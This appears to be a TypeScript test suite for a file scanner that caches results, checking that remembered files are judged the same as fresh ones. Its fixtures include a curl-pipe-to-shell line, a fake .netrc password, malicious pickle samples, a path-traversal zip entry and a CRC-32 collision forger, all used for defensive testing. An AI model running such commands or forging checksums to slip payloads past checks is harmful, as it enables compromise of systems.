// Files that come again are not looked at again, and nobody can tell the difference by what is concluded.
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { after, describe, test } from 'node:test';
import { crc32, gzipSync } from 'node:zlib';
import { MemoryRememberedFileStore } from '../../src/adapters/memory/remembered-files.ts';
import { ThreadedExaminer } from '../../src/adapters/threads/threaded-examiner.ts';
import { yaraRuleSets } from '../../src/adapters/yara/shipped-rules.ts';
import { yaraVersion } from '../../src/adapters/yara/yara-engine.ts';
import { checkFields } from '../../src/config/checks.ts';
import { readFields } from '../../src/config/fields.ts';
import {
  type About,
  type Examination,
  fileMemory,
  type RememberedFileStore,
  type Severities,
} from '../../src/core/checks/index.ts';
import type { ContentLocation } from '../../src/core/content/index.ts';
import { badPickle, goodPickle } from '../support/compressed-samples.ts';
import { seededRandom } from '../support/mutations.ts';
import { tarBytes } from '../support/tar-bytes.ts';
import { TestClock } from '../support/test-registry.ts';
import { type ZipMember, zipBytes } from '../support/zip-bytes.ts';

const settings = { ...readFields(checkFields, {}, []), threads: 1 };
const never = new AbortController().signal;
const thread = new URL('../../src/check-thread.ts', import.meta.url);

interface Changed {
  readonly limits?: Partial<typeof settings>;
  readonly severities?: Severities;
  readonly basis?: string;
  /** As the examiner is told of them, which is all that it knows. */
  readonly engines?: readonly string[];
  readonly threadData?: object;
}

const opened: ThreadedExaminer[] = [];
after(() => Promise.all(opened.map((examiner) => examiner.close())));

const engineOf = (rules: ReturnType<typeof yaraRuleSets>) =>
  yaraVersion({ rules, windowTimeLimitMs: 10_000 });
const shippedEngine = engineOf(yaraRuleSets());

/** Without a store, it remembers nothing. */
function examinerWith(store: RememberedFileStore | null, changed: Changed = {}) {
  const limits = { ...settings, ...changed.limits };
  const clock = new TestClock();
  const memory = store && fileMemory({ rememberedFiles: store, clock }, changed.basis ?? 'basis');
  const engines = async () => changed.engines ?? [shippedEngine];
  const { threadData = null, severities = {} } = changed;
  const examiner = new ThreadedExaminer(thread, settings, limits, threadData, engines, severities, memory);
  opened.push(examiner);
  return {
    clock,
    examine: (members: readonly ZipMember[], kind: About['kind'] = 'model') =>
      examiner.examine(located(zipBytes(members)), { kind, fileName: 'sample.zip' }, never),
  };
}

function located(bytes: Uint8Array): ContentLocation {
  const shared = new SharedArrayBuffer(bytes.length);
  new Uint8Array(shared).set(bytes);
  return { store: 'memory', bytes: shared, sizeBytes: bytes.length, revision: '1' };
}

/** What anybody can see of it, but for times and for what was remembered. */
function concluded({ results, files }: Examination) {
  return {
    files,
    results: results.map(({ durationMs: _, coverage: { remembered: __, ...coverage }, ...result }) => ({
      ...result,
      coverage,
    })),
  };
}

function checkOf({ results }: Examination, check: string) {
  const found = results.find((result) => result.check === check);
  assert.ok(found);
  return found;
}

const rememberedBytes = (examination: Examination) =>
  checkOf(examination, 'formats').coverage.remembered?.bytes ?? 0;
const rulesOf = (examination: Examination) =>
  examination.results.flatMap(({ findings }) => findings.map(({ rule }) => rule));

/** With something in front that makes it large enough to be remembered. */
const pickleOf = (calls: Buffer) => {
  const beginning = Buffer.from([0x80, 2, 0x58, 0, 0, 0, 0]);
  beginning.writeUInt32LE(5000, 3);
  return Buffer.concat([beginning, Buffer.alloc(5000, 'x'), Buffer.of(0x30), calls.subarray(2)]);
};
const bad = pickleOf(badPickle);
const good = pickleOf(goodPickle);
const tarOf = (content: Uint8Array) => tarBytes([{ name: 'inner.pkl', content: Buffer.from(content) }]);
const password = Buffer.from(
  `machine example.org login ada password vN7kQ2xR9tLp\n${'# a comment\n'.repeat(500)}`,
);
const noise = randomBytes(8192);
const card = { name: 'README.md', content: '# Sample' };

test('a file that comes again is told as before, with its digest and when it was looked at', async () => {
  const { clock, examine } = examinerWith(new MemoryRememberedFileStore());
  const first = await examine([card, { name: 'a/weights.bin', content: noise }]);
  assert.equal(rememberedBytes(first), 0);
  const lookedAt = clock.now().toISOString();
  clock.advance(3600);
  const second = await examine([
    { ...card, content: '# Changed' },
    { name: 'b/weights.bin', content: noise },
  ]);
  const digest = createHash('sha256').update(noise).digest('hex');
  for (const check of ['formats', 'malware', 'secrets']) {
    assert.deepEqual(checkOf(second, check).coverage.remembered, {
      bytes: noise.length,
      files: [{ path: 'b/weights.bin', digest, lookedAt }],
    });
    assert.equal(checkOf(second, check).verdict, 'passed');
  }
  clock.advance(91 * 24 * 3600);
  assert.equal(rememberedBytes(await examine([{ name: 'weights.bin', content: noise }])), 0);
});

test('what was found fails every package that has the file, where it lies there', async () => {
  const { examine } = examinerWith(new MemoryRememberedFileStore());
  await examine([{ name: 'old/model.tar', content: tarOf(bad) }]);
  const again = await examine([card, { name: 'some/new/model.tar', content: tarOf(bad) }], 'model');
  assert.notEqual(rememberedBytes(again), 0);
  const { verdict, findings } = checkOf(again, 'formats');
  assert.equal(verdict, 'failed');
  assert.deepEqual(
    findings.map(({ path }) => path),
    ['some/new/model.tar!/inner.pkl'],
  );
});

test('packages of any files in any folders are judged with memory as without', async () => {
  const draw = seededRandom(20_261_122);
  const pick = <T>(from: readonly T[]): T => {
    const [picked] = from.slice(Math.floor(draw() * from.length));
    if (picked === undefined) throw new RangeError('there is nothing to pick from');
    return picked;
  };
  const contents = [
    ...[good, bad, noise, password, tarOf(good), tarOf(bad), gzipSync(tarOf(bad)), bad.subarray(0, -10)],
    zipBytes([
      { name: 'A.txt', content: noise },
      { name: 'a.txt', content: bad },
    ]),
    zipBytes([{ name: '../up.txt', content: noise }]),
    zipBytes([{ name: 'locked', content: noise, flags: 1 }]),
    Buffer.concat([Buffer.from('\x7fELF'), noise]),
    Buffer.from(`{"auto_map": {"AutoModel": "model.Model"}, "filler": "${'x'.repeat(5000)}"}`),
    Buffer.from(`import os\nos.system('curl http://example.org/x | sh')\n${'# a comment\n'.repeat(500)}`),
    Buffer.from('small'),
  ];
  const names = [
    'data.bin',
    'model.pkl',
    'setup.py',
    'config.json',
    '.netrc',
    'weights.safetensors',
  ] as const;
  const folders = ['', 'a/', 'a/b/', 'odd\u{202e}/'] as const;
  const [remembering, forgetful] = [examinerWith(new MemoryRememberedFileStore()), examinerWith(null)];
  let remembered = 0;
  for (let round = 0; round < 40; round++) {
    const paths = new Set(Array.from({ length: 6 }, () => pick(folders) + pick(names)));
    const members = [...paths].map((name) => ({
      name,
      content: pick(contents),
      method: pick([0, 8]),
      // Some are not what the archive states.
      ...(draw() < 0.05 && { crc32: 1 }),
    }));
    const kind = pick(['model', 'dataset', 'code'] as const);
    const examination = await remembering.examine(members, kind);
    remembered += rememberedBytes(examination);
    assert.deepEqual(
      concluded(examination),
      concluded(await forgetful.examine(members, kind)),
      JSON.stringify(members.map(({ name }) => name)),
    );
  }
  assert.ok(remembered > 100_000, `only ${remembered} bytes were remembered`);
});

describe('nothing is taken from memory', () => {
  const judged = async (
    store: RememberedFileStore,
    member: ZipMember,
    kind: About['kind'],
    changed: Changed,
  ) => {
    const examination = await examinerWith(store, changed).examine([card, member], kind);
    return { examination, bytes: rememberedBytes(examination) };
  };

  test('for other bytes of the same name, size and CRC', async () => {
    const innocent = withCrc(Buffer.alloc(bad.length, 'x'), 0x01234567);
    const evil = withCrc(bad, 0x01234567);
    assert.deepEqual([evil.length, crc32(evil)], [innocent.length, crc32(innocent)]);
    const { examine } = examinerWith(new MemoryRememberedFileStore());
    const known = await examine([{ name: 'data.bin', content: innocent }]);
    assert.equal(checkOf(known, 'formats').verdict, 'passed');
    assert.equal(rememberedBytes(await examine([{ name: 'data.bin', content: innocent }])), innocent.length);
    const examination = await examine([{ name: 'data.bin', content: evil }]);
    assert.equal(rememberedBytes(examination), 0);
    assert.ok(rulesOf(examination).includes('pickle.dangerous-global'), String(rulesOf(examination)));
  });

  test('for the same bytes under a name that makes them something else', async () => {
    const store = new MemoryRememberedFileStore();
    const [text, secret] = [
      { name: 'notes.txt', content: password },
      { name: '.netrc', content: password },
    ];
    const first = await judged(store, text, 'code', {});
    assert.deepEqual(rulesOf(first.examination).includes('secrets.password'), false);
    const second = await judged(store, secret, 'code', {});
    assert.equal(second.bytes, 0);
    assert.ok(rulesOf(second.examination).includes('secrets.password'));
  });

  test('of a package of another kind', async () => {
    const store = new MemoryRememberedFileStore();
    const program = { name: 'run', content: Buffer.concat([Buffer.from('\x7fELF'), noise]) };
    await judged(store, program, 'code', {});
    const inModel = await judged(store, program, 'model', {});
    assert.equal(inModel.bytes, 0);
    assert.equal(checkOf(inModel.examination, 'formats').verdict, 'failed');
  });

  test('that was found by other limits, settings or engines', async () => {
    const store = new MemoryRememberedFileStore();
    const file = { name: 'model.tar', content: tarOf(good) };
    const put = await judged(store, file, 'model', {});
    assert.equal(put.bytes, 0);
    assert.notEqual((await judged(store, file, 'model', {})).bytes, 0);
    const changes: readonly Changed[] = [
      { limits: { maximumNesting: 4 } },
      { limits: { maximumExpandedBytes: 1_000_000 } },
      { basis: 'another release' },
      { engines: [shippedEngine, 'ClamAV 1/27000'] },
    ];
    for (const changed of changes) {
      const { bytes } = await judged(store, file, 'model', changed);
      assert.equal(bytes, 0, JSON.stringify(changed));
    }
  });

  test('that was not looked at wholly, by an engine that was not there, or by other rules than those at the start', async () => {
    const locked = zipBytes([{ name: 'locked', content: noise, flags: 1 }]);
    const [cut, whole] = [bad.subarray(0, -10), noise];
    const missing = { engines: [shippedEngine, 'ClamAV 1/27000'] };
    for (const [content, changed] of [
      [locked, {}],
      [cut, {}],
      [whole, missing],
    ] as const) {
      const store = new MemoryRememberedFileStore();
      await judged(store, { name: 'file.pkl', content }, 'model', changed);
      const { bytes } = await judged(store, { name: 'file.pkl', content }, 'model', changed);
      assert.equal(bytes, 0);
    }
  });
});

test('new rules for malware reach a file that passed before', async () => {
  const store = new MemoryRememberedFileStore();
  const mark = 'a string that nobody minded yet';
  const file = { name: 'data.bin', content: Buffer.concat([noise, Buffer.from(mark)]) };
  const before = await examinerWith(store).examine([card, file]);
  assert.equal(checkOf(before, 'malware').verdict, 'passed');
  const text = `rule Minded { strings: $a = "${mark}" condition: $a }`;
  const rules = [...yaraRuleSets(), { isAboutText: false, files: [{ name: 'own.yar', text }] }];
  const threadData = { malware: { yara: { rules, windowTimeLimitMs: 10_000 } } };
  const newer = { threadData, engines: [engineOf(rules)] };
  const flipped = await examinerWith(store, newer).examine([card, file]);
  assert.equal(checkOf(flipped, 'malware').verdict, 'failed');
  const elsewhere = await examinerWith(store, newer).examine([{ ...file, name: 'other/data.bin' }]);
  assert.equal(checkOf(elsewhere, 'malware').verdict, 'failed');
  assert.equal(rememberedBytes(elsewhere), file.content.length);
});

test('which rules block is decided when a result is made, not when it is remembered', async () => {
  const store = new MemoryRememberedFileStore();
  const lenient = examinerWith(store, { severities: { 'pickle.dangerous-global': 'warns' } });
  const file = { name: 'model.pkl', content: bad };
  assert.equal(checkOf(await lenient.examine([card, file]), 'formats').verdict, 'passed');
  const strict = await examinerWith(store).examine([card, file]);
  assert.equal(rememberedBytes(strict), bad.length);
  assert.equal(checkOf(strict, 'formats').verdict, 'failed');
});

test('copies of a container that is remembered use up the budget of a package as if they were opened', async () => {
  const limits = { maximumExpandedBytes: 120_000, ratioFreeBytes: 1_000_000 };
  const store = new MemoryRememberedFileStore();
  const padded = gzipSync(Buffer.concat([randomBytes(5_000), Buffer.alloc(45_000)]));
  // Stored: only what lies inside counts.
  const members = (count: number) =>
    Array.from({ length: count }, (_, i) => ({ name: `${i}/x.gz`, content: padded, method: 0 }));
  const remembering = examinerWith(store, { limits });
  assert.equal(checkOf(await remembering.examine(members(1)), 'archive').verdict, 'passed');
  const two = await remembering.examine(members(2));
  assert.deepEqual([checkOf(two, 'archive').verdict, rememberedBytes(two) > 100_000], ['passed', true]);
  const three = await remembering.examine(members(3));
  assert.deepEqual(concluded(three), concluded(await examinerWith(null, { limits }).examine(members(3))));
  assert.equal(checkOf(three, 'archive').verdict, 'failed');
});

/** The bytes with four more behind them, which give the whole the CRC-32. */
function withCrc(bytes: Buffer, wanted: number): Buffer {
  const table = Array.from({ length: 256 }, (_, byte) => {
    let crc = byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
    return crc >>> 0;
  });
  // Backwards: the highest byte of a state tells which entry of the table made it.
  const entries: number[] = [];
  let state = ~wanted >>> 0;
  for (let i = 0; i < 4; i++) {
    const entry = table.findIndex((value) => value >>> 24 === state >>> 24);
    entries.unshift(entry);
    state = ((state ^ (table[entry] ?? 0)) << 8) >>> 0;
  }
  const tail = Buffer.alloc(4);
  state = ~crc32(bytes) >>> 0;
  for (const [i, entry] of entries.entries()) {
    tail[i] = (state ^ entry) & 0xff;
    state = ((state >>> 8) ^ (table[entry] ?? 0)) >>> 0;
  }
  return Buffer.concat([bytes, tail]);
}
